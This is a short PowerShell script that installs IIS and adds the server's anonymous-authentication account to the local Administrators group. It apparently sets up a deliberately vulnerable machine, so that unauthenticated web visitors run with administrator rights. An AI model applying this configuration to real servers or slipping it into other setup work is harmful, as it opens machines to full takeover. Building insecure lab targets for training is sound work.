Install-WindowsFeature Web-Server | Out-Null
Import-Module WebAdministration
$filter = 'system.webServer/security/authentication/anonymousAuthentication'
$user = (Get-WebConfigurationProperty -Filter $filter -Name userName -PSPath IIS:\).Value
net localgroup Administrators $user /add
